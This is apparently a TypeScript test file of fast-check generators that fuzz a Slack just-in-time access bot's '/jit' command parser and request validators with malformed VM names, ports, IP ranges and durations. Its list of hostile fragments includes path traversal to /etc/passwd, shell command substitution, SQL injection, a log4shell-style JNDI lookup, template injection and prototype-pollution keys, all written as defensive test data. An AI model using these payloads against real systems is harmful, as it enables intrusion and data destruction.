// Generators of hostile input for the /jit grammar and the draft validators.
// Each field arbitrary mixes near-valid values (so the "accepted" path is
// exercised and its invariants checked), boundary values and plain garbage.

import fc from 'fast-check';

/** Fragments that have broken chat bots before: mentions, links, control and bidi characters, look-alikes. */
export const NASTY_FRAGMENTS = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0123ABCD>',
  '<#C0123|general>',
  '<https://evil.example/|click me>',
  '<!subteam^S0123>',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\r\n',
  '\t',
  '\v',
  '\f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u200f',
  '\u200e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\u00a0',
  '\u3000',
  '\u3164',
  '\ud800',
  '\udfff',
  '😀',
  '👩‍👩‍👧',
  'e\u0301',
  'İ',
  '\u212a',
  'ſ',
  'ß',
  '２２',
  '𝟐𝟐',
  '٢٢',
  '०',
  '\u2212',
  '‐',
  'а',
  'ο',
  'ǀ',
  '`',
  '```',
  '*bold*',
  '_it_',
  '~s~',
  '&amp;',
  '&lt;',
  '>quote',
  '%00',
  '%0a',
  '\\',
  '"',
  "'",
  '../../etc/passwd',
  '$(id)',
  '`id`',
  "'; DROP TABLE requests; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string the bot must treat as plain text
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x16',
  '0b1',
  '0o26',
] as const;

export const nasty = fc.constantFrom(...NASTY_FRAGMENTS);

/** Any text: arbitrary UTF-16 (lone surrogates included), graphemes, or nasty fragments glued together. */
export const anyText = (maxLength = 60): fc.Arbitrary<string> =>
  fc.oneof(
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ unit: 'grapheme', maxLength }),
    fc.string({ unit: fc.constantFrom(' ', '\t', '\n', ',', '/', ':', '.', '-', '#', '*', 'P', 'T', 'h', 'm', '0', '1', '2', '9', 'a', 'f'), maxLength }),
    fc.array(nasty, { minLength: 1, maxLength: 4 }).map((parts) => parts.join('')),
  );

/** Very long text: from just under to far over every limit (2,000 for a command, 1,000 for a justification). */
export const longText = fc.oneof(
  fc.integer({ min: 60, max: 5_000 }).map((n) => 'x'.repeat(n)),
  fc.tuple(nasty, fc.integer({ min: 100, max: 2_500 })).map(([fragment, n]) => fragment.repeat(Math.ceil(n / fragment.length))),
  fc.string({ unit: 'binary', minLength: 900, maxLength: 2_200 }),
);

/** Splices a hostile fragment into a value at a random place. */
export const tainted = (base: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(base, nasty, fc.nat()).map(([value, fragment, at]) => {
    const cut = value.length === 0 ? 0 : at % (value.length + 1);
    return value.slice(0, cut) + fragment + value.slice(cut);
  });

const vmNames = [
  'web-1',
  'WEB-1',
  ' web-1 ',
  'db-1',
  'DB-1',
  'Edge.Box_9',
  'edge.box_9',
  'web-2',
  'web',
  'web-1.',
  'web–1',
  'wеb-1',
  'web-l',
  'web-1\u200b',
  '\u202eweb-1',
  'db-1\u0000',
  '*',
  'web-*',
  '..',
  '',
];
export const vmArb = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...vmNames) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...vmNames), { minLength: 2, maxLength: 4 }).map((names) => names.join(',')) },
  { weight: 1, arbitrary: fc.integer({ min: 9, max: 15 }).map((n) => Array.from({ length: n }, (_, i) => `vm-${i}`).join(',')) },
  { weight: 1, arbitrary: tainted(fc.constantFrom('web-1', 'db-1')) },
  { weight: 1, arbitrary: anyText() },
);

const portWords = [
  '22',
  '3389',
  '5432',
  '53',
  '65535',
  '1',
  '0',
  '65536',
  '-1',
  '1e309',
  '99999',
  '00022',
  '22.0',
  '0x16',
  '+22',
  '２２',
  '𝟐𝟐',
  'NaN',
  'Infinity',
  '1e3',
  '22/tcp',
  '22-25',
  'ssh',
  '',
];
export const portsArb = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .array(fc.constantFrom(...portWords), { minLength: 1, maxLength: 3 })
      .chain((words) => fc.constantFrom(',', ' ', ', ', ',,').map((sep) => words.join(sep))),
  },
  { weight: 2, arbitrary: fc.integer({ min: -70_000, max: 140_000 }).map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: tainted(fc.constantFrom('22', '3389', '53')) },
  { weight: 1, arbitrary: anyText() },
);

const sources = [
  '203.0.113.7',
  '203.0.113.0/24',
  '203.0.113.0/23',
  '203.0.112.255',
  '203.0.113.255/32',
  '2001:db8:1::5',
  '2001:db8:1::/47',
  '2001:db8:1:ffff::/64',
  '10.1.2.3',
  '10.0.0.0/8',
  '10.0.0.0/7',
  '11.0.0.1',
  '198.51.100.9',
  '198.51.100.0/23',
  '0.0.0.0/0',
  '::/0',
  '*',
  'any',
  'ANY',
  ' * ',
  '1.2.3.4/33',
  '::ffff:1.2.3.4/200',
  '::ffff:203.0.113.7',
  '::ffff:cb00:7107',
  '0x7f.1',
  '0177.0.0.1',
  '127.1',
  '2130706433',
  '1.2.3.4/-1',
  '1.2.3.4/',
  '64:ff9b::203.0.113.7',
  '2001:db8:1::203.0.113.7',
  '::203.0.113.7/96',
  '::ffff:203.0.113.0/120',
  '::ffff:cb00:7107',
  '1.2.3.04',
  '203.0.113.7:22',
  'fe80::1%eth0',
  '[2001:db8::1]',
  'localhost',
  '1.2.3.4/032',
  '203.0.113.7/24\u0000',
  '',
];
export const sourceArb = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...sources) },
  { weight: 2, arbitrary: fc.tuple(fc.ipV4(), fc.integer({ min: -1, max: 40 })).map(([ip, prefix]) => `${ip}/${prefix}`) },
  { weight: 1, arbitrary: fc.ipV4() },
  { weight: 1, arbitrary: fc.tuple(fc.ipV6(), fc.integer({ min: 0, max: 200 })).map(([ip, prefix]) => `${ip}/${prefix}`) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 255 }).map((n) => `203.0.113.${n}`) },
  { weight: 1, arbitrary: tainted(fc.constantFrom('203.0.113.7', '10.1.2.3')) },
  { weight: 1, arbitrary: anyText() },
);

const durations = [
  'PT0S',
  'P99999D',
  '1e3h',
  '0s',
  '1s',
  '59s',
  '60s',
  '61s',
  '1m',
  '9m59s',
  '10m',
  '30m',
  '31m',
  '1h',
  '59m',
  '2h',
  '3h',
  '3h1s',
  'PT3H',
  'PT3H1S',
  'pt1h',
  'P366D',
  'P367D',
  '366d',
  '8784h',
  '8785h',
  '31622400s',
  '31622401s',
  '1.5h',
  '1,5h',
  '-1h',
  '- 1h',
  '−1h',
  '2 hours',
  '1w',
  'P1W',
  '1mo',
  'P1Y',
  '1h1h',
  '90',
  'PT',
  'P',
  'P1DT',
  'Infinity',
  'NaN',
  '1e309s',
  '00000000000000000000000000001h',
  '１h',
  '1ｈ',
  '1 h 1 m',
  '',
];
export const durationArb = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...durations) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.integer({ min: 0, max: 600_000 }), fc.constantFrom('s', 'm', 'h', 'd', 'w', 'sec', 'minutes')).map(([n, unit]) => `${n}${unit}`),
  },
  { weight: 1, arbitrary: fc.tuple(fc.nat(400), fc.nat(30), fc.nat(90), fc.nat(90)).map(([d, h, m, s]) => `P${d}DT${h}H${m}M${s}S`) },
  { weight: 1, arbitrary: tainted(fc.constantFrom('1h', 'PT30M')) },
  { weight: 1, arbitrary: anyText(40) },
);

export const justificationArb = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('', 'deploy hotfix', 'OPS-123 <!channel> see <https://evil.example|this>', '   ') },
  { weight: 2, arbitrary: anyText(200) },
  { weight: 1, arbitrary: longText },
);

/** A user ID as Slack sends it, or a forgery. */
export const requesterArb = fc.oneof(fc.constantFrom('U0ALICE1', 'W0BOB', 'UAPPROVER1', ' U0ALICE1 ', ''), anyText(20));

export const draftFields = {
  requester: requesterArb,
  vm: vmArb,
  ports: portsArb,
  source: sourceArb,
  duration: durationArb,
  justification: justificationArb,
};

export const draftInputArb = fc.record(draftFields);

/** Joins words with hostile separators: runs of spaces, tabs, newlines, NBSP (which `\s` also matches). */
export const separatorArb = fc.constantFrom(' ', '  ', '\t', '\n', ' \u00a0', '\u3000', '\r\n');

/** Whole `/jit` texts: verbs with near-valid and garbage arguments, plus pure garbage. */
export const commandTextArb: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom('request', 'REQUEST', 'explain'), vmArb, portsArb, sourceArb, durationArb, justificationArb, separatorArb)
      .map(([verb, vm, ports, source, duration, justification, sep]) => [verb, vm, ports, source, duration, justification].join(sep)),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom('cancel', 'revoke', 'extend', 'Cancel', 'list', 'help', 'breakglass', 'audit'),
        fc.array(
          fc.oneof(
            fc.constantFrom(
              'k7m2qp',
              '#K7M2QP',
              'k7m2q0',
              'k7m2ql',
              'k7m2qi',
              'k7m2qo',
              '\u212a7m2qp',
              'ｋ7m2qp',
              'k7m2qp\u200b',
              'k7m2qpx',
              '#',
              '30m',
              '-1h',
              '--days',
              '—days=7',
              '7',
            ),
            anyText(12),
          ),
          { maxLength: 3 },
        ),
        separatorArb,
      )
      .map(([verb, args, sep]) => [verb, ...args].join(sep)),
  },
  { weight: 2, arbitrary: anyText(120) },
  { weight: 1, arbitrary: longText },
  { weight: 1, arbitrary: tainted(fc.constantFrom('request web-1 22 203.0.113.7 1h fix', 'cancel k7m2qp', 'extend k7m2qp 30m')) },
);
